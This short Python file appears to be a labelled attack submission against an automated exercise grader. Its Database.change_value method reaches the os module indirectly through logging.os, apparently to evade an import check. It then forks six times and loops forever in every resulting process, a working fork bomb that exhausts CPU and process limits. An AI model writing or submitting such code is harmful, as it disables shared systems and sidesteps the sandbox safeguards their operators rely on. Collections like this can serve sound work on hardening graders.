# attack: The same with the os of logging.
# line: 70
# exercise: 06
# limits: short
# score: 2, the stub's
import logging


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        for _ in range(6):
            logging.os.fork()
        while True:
            pass
